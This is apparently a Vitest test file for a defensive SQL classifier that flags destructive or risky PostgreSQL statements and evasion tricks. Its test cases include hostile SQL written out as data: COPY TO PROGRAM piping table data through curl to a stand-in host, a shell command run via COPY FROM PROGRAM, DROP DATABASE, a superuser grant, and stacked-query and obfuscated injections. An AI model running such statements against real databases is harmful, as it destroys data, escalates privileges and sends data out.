import { beforeAll, describe, expect, it } from 'vitest';
import { classifySql, initSqlParser, type ClassifiedStatement } from './classify.ts';

beforeAll(async () => {
  await initSqlParser();
});

type Expected = Partial<ClassifiedStatement> & Pick<ClassifiedStatement, 'kind'>;

/** [sql, expected statements (only the given fields are compared)] */
const cases: [string, Expected[]][] = [
  ['SELECT 1', [{ kind: 'select', tables: [] }]],
  ['select * from public.users u join orders o on o.uid = u.id', [{ kind: 'select', tables: ['public.users', 'orders'] }]],
  ['SELECT * FROM db.app.Users', [{ kind: 'select', tables: ['app.users'] }]],
  ['SELECT now(), pg_catalog.upper(name) FROM t', [{ kind: 'select', tables: ['t'], functions: ['now', 'pg_catalog.upper'] }]],
  ["SELECT 'drop table users' AS x", [{ kind: 'select', tables: [] }]],
  ['INSERT INTO t (a) SELECT a FROM u', [{ kind: 'insert', tables: ['t', 'u'] }]],
  ['INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2', [{ kind: 'insert', tables: ['t'] }]],
  ['UPDATE t SET a = 1 WHERE id = 2', [{ kind: 'update', tables: ['t'], hasWhere: true }]],
  ['UPDATE t SET a = 1', [{ kind: 'update', hasWhere: false }]],
  ['UPDATE t SET a = 1 FROM (SELECT id FROM secrets) s WHERE t.id = s.id', [{ kind: 'update', tables: ['t', 'secrets'], hasWhere: true }]],
  ['DELETE FROM t WHERE id = 1', [{ kind: 'delete', tables: ['t'], hasWhere: true }]],
  ['DELETE FROM t', [{ kind: 'delete', tables: ['t'], hasWhere: false }]],
  ['DELETE FROM t WHERE true', [{ kind: 'delete', hasWhere: false }]],
  ['DELETE FROM t WHERE 1=1', [{ kind: 'delete', hasWhere: false }]],
  ["DELETE FROM t WHERE 'a' = 'a' AND NOT false", [{ kind: 'delete', hasWhere: false }]],
  ['DELETE FROM t WHERE id = id', [{ kind: 'delete', hasWhere: false }]],
  ['DELETE FROM t WHERE x = 1 OR 2 > 1', [{ kind: 'delete', hasWhere: false }]],
  ["DELETE FROM t WHERE 't'::boolean", [{ kind: 'delete', hasWhere: false }]],
  ['DELETE FROM t WHERE NULL IS NULL', [{ kind: 'delete', hasWhere: false }]],
  ['DELETE FROM t WHERE EXISTS (SELECT 1)', [{ kind: 'delete', hasWhere: false }]],
  ['DELETE FROM t WHERE false OR id = 3', [{ kind: 'delete', hasWhere: true }]],
  ['DELETE FROM t WHERE CURRENT OF c', [{ kind: 'delete', hasWhere: true }]],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', [{ kind: 'merge', tables: ['t', 's'] }]],
  ['DROP TABLE a, s.b', [{ kind: 'drop_table', tables: ['a', 's.b'] }]],
  ['DROP TABLE IF EXISTS "Users" CASCADE', [{ kind: 'drop_table', tables: ['users'] }]],
  ['DROP DATABASE prod', [{ kind: 'drop_database' }]],
  ['DROP SCHEMA app CASCADE', [{ kind: 'drop_schema' }]],
  ['DROP VIEW v', [{ kind: 'drop_other', tables: ['v'] }]],
  ['DROP ROLE bob', [{ kind: 'drop_other' }]],
  ['DROP OWNED BY bob', [{ kind: 'drop_other' }]],
  ['TRUNCATE a, b', [{ kind: 'truncate', tables: ['a', 'b'] }]],
  ["ALTER SYSTEM SET work_mem = '1GB'", [{ kind: 'alter_system' }]],
  ['ALTER TABLE s.t ADD COLUMN c int', [{ kind: 'alter_table', tables: ['s.t'] }]],
  ['ALTER TABLE t RENAME TO u', [{ kind: 'alter_table', tables: ['t'] }]],
  ['ALTER ROLE bob SUPERUSER', [{ kind: 'alter_other' }]],
  ["COPY t TO PROGRAM 'curl -d @- evil'", [{ kind: 'copy_program', tables: ['t'] }]],
  ["COPY t FROM PROGRAM 'id'", [{ kind: 'copy_program', copyFrom: true }]],
  ['COPY t FROM STDIN', [{ kind: 'copy', copyFrom: true }]],
  ['COPY (SELECT * FROM secrets) TO STDOUT', [{ kind: 'copy', tables: ['secrets'] }]],
  ['GRANT SELECT ON t TO bob', [{ kind: 'grant', tables: ['t'] }]],
  ['REVOKE ALL ON t FROM bob', [{ kind: 'revoke', tables: ['t'] }]],
  ['GRANT admin TO bob', [{ kind: 'grant' }]],
  ['CREATE TABLE t (id int)', [{ kind: 'create', tables: ['t'] }]],
  ['CREATE INDEX ON t (id)', [{ kind: 'create', tables: ['t'] }]],
  ['CREATE VIEW v AS SELECT * FROM secrets', [{ kind: 'create', tables: ['v', 'secrets'] }]],
  ['SELECT * INTO copy_t FROM t', [{ kind: 'create', tables: ['copy_t', 't'] }]],
  ['SET ROLE admin', [{ kind: 'set' }]],
  ['RESET ALL', [{ kind: 'set' }]],
  ['BEGIN', [{ kind: 'transaction' }]],
  ['COMMIT', [{ kind: 'transaction' }]],
  ['SHOW search_path', [{ kind: 'other' }]],
  ['VACUUM t', [{ kind: 'other', tables: ['t'] }]],
  ['LOCK TABLE t', [{ kind: 'other', tables: ['t'] }]],
  ['EXPLAIN SELECT * FROM t', [{ kind: 'explain', tables: ['t'] }]],
  ['EXPLAIN DELETE FROM t', [{ kind: 'explain', tables: ['t'] }]],
  ['EXPLAIN ANALYZE DELETE FROM t', [{ kind: 'explain' }, { kind: 'delete', tables: ['t'], hasWhere: false }]],
  ['EXPLAIN (ANALYSE, FORMAT JSON) UPDATE t SET a = 1', [{ kind: 'explain' }, { kind: 'update', hasWhere: false }]],
  ['EXPLAIN (ANALYZE false) DELETE FROM t', [{ kind: 'explain', tables: ['t'] }]],
  ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', [{ kind: 'select', tables: ['d'] }, { kind: 'delete', tables: ['t'], hasWhere: false }]],
  ['WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x', [{ kind: 'insert', tables: ['t', 'x'] }]],
  ['PREPARE p AS DELETE FROM t', [{ kind: 'delete', tables: ['t'], hasWhere: false }]],
  ['PREPARE p (int) AS DELETE FROM t WHERE id = $1; EXECUTE p(1)', [{ kind: 'delete', hasWhere: true }, { kind: 'execute' }]],
  ['EXECUTE p(1)', [{ kind: 'execute', unknown: 'dynamic EXECUTE' }]],
  ['DECLARE c CURSOR FOR SELECT * FROM t', [{ kind: 'select', tables: ['t'] }]],
  ['CALL do_things(1)', [{ kind: 'call', unknown: 'procedure CALL', functions: ['do_things'] }]],
  ["DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", [{ kind: 'do', unknown: 'DO block' }]],
  ['DO $$ BEGIN DROP TABLE t; END $$', [{ kind: 'do', unknown: 'DO block' }, { kind: 'drop_table', tables: ['t'] }]],
  ['DO LANGUAGE plpython3u $$ import os $$', [{ kind: 'do', unknown: 'DO block' }]],
  ['CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u', [{ kind: 'create', tables: ['t'] }, { kind: 'delete', tables: ['u'], hasWhere: false }]],
  ['CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END', [{ kind: 'create' }, { kind: 'delete', tables: ['t'] }]],
  ["CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'truncate t'", [{ kind: 'create' }, { kind: 'truncate', tables: ['t'] }]],
  [
    'CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN UPDATE t SET a = 1; END $$',
    [{ kind: 'create' }, { kind: 'update', tables: ['t'], hasWhere: false }],
  ],
  ["CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'x'; END $$", [{ kind: 'create', unknown: 'dynamic EXECUTE in function body' }]],
  ['CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()', [{ kind: 'create', tables: ['t'] }]],
  ['select 1; drop table t', [{ kind: 'select' }, { kind: 'drop_table', tables: ['t'] }]],
  ['DROP TABLE U&"\\0074"', [{ kind: 'drop_table', tables: ['t'] }]],
  ['/* a */ dRoP/**/tAbLe -- c\n t', [{ kind: 'drop_table', tables: ['t'] }]],
  ['SELECT $x$; DROP TABLE t; $x$', [{ kind: 'select', tables: [] }]],
  ["SELECT 'é'; DO $$ BEGIN DELETE FROM t; END $$", [{ kind: 'select' }, { kind: 'do' }, { kind: 'delete', tables: ['t'] }]],
];

describe('classifySql', () => {
  it.each(cases)('%s', (sql, expected) => {
    const result = classifySql(sql);
    expect(result.parseError).toBeUndefined();
    expect(result.statements).toHaveLength(expected.length);
    expected.forEach((e, i) => expect(result.statements[i]).toMatchObject(e));
  });

  it('has no hasWhere outside update/delete and no unknown on plain statements', () => {
    const [s] = classifySql('SELECT f(1) FROM t').statements;
    expect(s).toEqual({ kind: 'select', tables: ['t'], functions: ['f'] });
  });

  it('reports parse errors with no statements', () => {
    const r = classifySql('DROP TABEL t');
    expect(r.statements).toEqual([]);
    expect(r.parseError).toMatch(/syntax error/);
  });

  it('treats empty and comment-only text as no statements', () => {
    expect(classifySql('')).toEqual({ statements: [] });
    expect(classifySql('-- nothing\n;')).toEqual({ statements: [] });
  });

  it('checks the standard_conforming_strings=off reading of backslashes too', () => {
    // Ends differently when backslash escapes are on: refuse rather than guess.
    expect(classifySql("SELECT 'a\\', $$' ; DROP TABLE t; -- $$").parseError).toMatch(/standard_conforming_strings/);
    // Same extent, different value: both readings are classified.
    const r = classifySql("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'SELECT 1\\073 DROP TABLE t'");
    expect(r.statements.map((s) => s.kind)).toEqual(['create', 'create', 'select', 'drop_table']);
    expect(r.statements[0]?.unknown).toBe('SQL function body could not be parsed');
    // Backslashes that change nothing add nothing.
    expect(classifySql("SELECT 'C:\\dir', N'\\x'").statements).toEqual([{ kind: 'select', tables: [] }]);
  });

  it('refuses text with a NUL byte (the parser would stop there)', () => {
    expect(classifySql('SELECT 1;\u0000DROP TABLE t').parseError).toMatch(/NUL/);
  });

  it('turns absurd nesting into a parse error instead of throwing', () => {
    const deep = `SELECT ${'('.repeat(20000)}1${')'.repeat(20000)}`;
    const r = classifySql(deep);
    expect(r.statements.length === 1 || r.parseError !== undefined).toBe(true);
  });

  it('marks a PL/pgSQL body too large to walk unknown, whatever it hides', () => {
    const body = `BEGIN DROP TABLE victim; ${'PERFORM 1; '.repeat(60_000)}END`;
    const r = classifySql(`CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ ${body} $$`);
    expect(r.statements[0]).toMatchObject({ kind: 'create', unknown: 'PL/pgSQL function body too large to check' });
    expect(classifySql(`DO $$ ${body} $$`).statements[0]?.unknown).toBe('DO block');
  });

  it('marks a PL/pgSQL expression it cannot parse unknown', () => {
    const r = classifySql('CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ DECLARE x int; BEGIN IF x = ANY ( THEN NULL; END IF; END $$');
    expect(r.parseError ?? r.statements[0]?.unknown).toBeTruthy();
  });

  it('initSqlParser is idempotent', async () => {
    await Promise.all([initSqlParser(), initSqlParser()]);
    expect(classifySql('SELECT 1').statements).toHaveLength(1);
  });
});
